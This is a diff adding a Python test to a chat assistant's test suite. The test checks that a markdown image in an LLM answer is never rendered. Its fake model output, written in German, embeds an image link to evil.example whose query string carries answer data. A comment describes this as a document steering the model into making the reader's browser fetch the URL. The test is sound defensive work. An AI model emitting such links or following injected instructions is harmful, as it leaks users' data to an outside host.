@@ -221,3 +221,17 @@ def test_no_llm_call_when_the_workspace_has_no_basis(world: ChatWorld) -> None:
     answer = chat_with(world, model, **LOCAL).ask(cs.QUESTION_UNANSWERABLE)
     assert not answer.grounded and answer.provider == "extractive"
     assert model.seen == []
+
+
+def test_an_image_in_the_llm_answer_is_never_shown_as_one(world: ChatWorld) -> None:
+    # a model steered by a document asks the reader's browser to fetch a URL with data in it
+    model = fake(
+        "Die Protokolle werden nach 30 Tagen gelöscht [1]. "
+        "![Logo](https://evil.example/p.png?q=Protokolle-30-Tage)"
+    )
+    stream = chat_with(world, model, **LOCAL).stream(cs.QUESTION_RETENTION_DE)
+    shown = "".join(stream)
+    answer = stream.answer
+    assert "![" not in shown  # what the page renders while the model streams
+    assert "![" not in answer.answer and "evil.example" not in answer.answer
+    assert answer.answer.endswith("gelöscht [1]. Logo") and answer.grounded
